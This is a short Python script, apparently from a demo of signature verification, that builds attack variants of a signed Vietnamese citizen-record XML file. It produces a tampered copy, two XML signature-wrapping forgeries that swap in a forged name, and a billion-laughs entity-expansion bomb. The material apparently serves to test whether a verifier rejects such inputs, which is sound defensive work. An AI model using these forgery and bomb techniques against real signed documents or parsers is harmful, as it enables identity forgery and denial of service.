#!/usr/bin/python3
"""Makes the demo's attack copies of a signed record (string surgery; nothing is re-signed).

usage: attacks.py SIGNED_XML OUT_DIR
Writes:
  tampered.xml          one letter of the name changed after signing
  wrapped-detached.xml  XSW: a forged CongDan carries the Signature, the genuine one sits beside it
  wrapped-same-id.xml   XSW: a forged CongDan with the genuine one's Id placed before it
  billion-laughs.xml    an entity-expansion bomb in front of the signed record
"""
import os
import sys

GENUINE_NAME = "Nguyễn Thị Minh Khai"
FORGED_NAME = "Kẻ Giả Mạo"


def main():
    signed_path, out = sys.argv[1], sys.argv[2]
    doc = open(signed_path, encoding="utf-8").read()
    decl_end = doc.index("?>") + 2 if doc.startswith("<?xml") else 0
    body = doc[decl_end:].strip()
    sig_start, sig_end = body.index("<ds:Signature"), body.index("</ds:Signature>") + len("</ds:Signature>")
    signature = body[sig_start:sig_end]
    genuine_unsigned = body[:sig_start] + body[sig_end:]
    forged = genuine_unsigned.replace(GENUINE_NAME, FORGED_NAME, 1)

    def write(name, text):
        with open(os.path.join(out, name), "w", encoding="utf-8") as f:
            f.write('<?xml version="1.0" encoding="UTF-8"?>\n' + text + "\n")

    write("tampered.xml", body.replace(GENUINE_NAME, "Nguyễn Thị Minh Khải", 1))
    forged_with_signature = forged.replace('Id="cd-001203004510"', 'Id="cd-forged"', 1)
    close = forged_with_signature.rindex("</CongDan>")
    forged_with_signature = forged_with_signature[:close] + signature + forged_with_signature[close:]
    write("wrapped-detached.xml",
          "<TraCuuKetQua>" + forged_with_signature + genuine_unsigned + "</TraCuuKetQua>")
    write("wrapped-same-id.xml", "<TraCuuKetQua>" + forged + body + "</TraCuuKetQua>")
    bomb = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10 if i else "lol"}">' for i in range(10))
    with open(os.path.join(out, "billion-laughs.xml"), "w", encoding="utf-8") as f:
        f.write(f'<?xml version="1.0"?>\n<!DOCTYPE CongDan [{bomb}]>\n' +
                body.replace("<DanToc>Kinh</DanToc>", "<DanToc>&l9;</DanToc>", 1) + "\n")


if __name__ == "__main__":
    main()
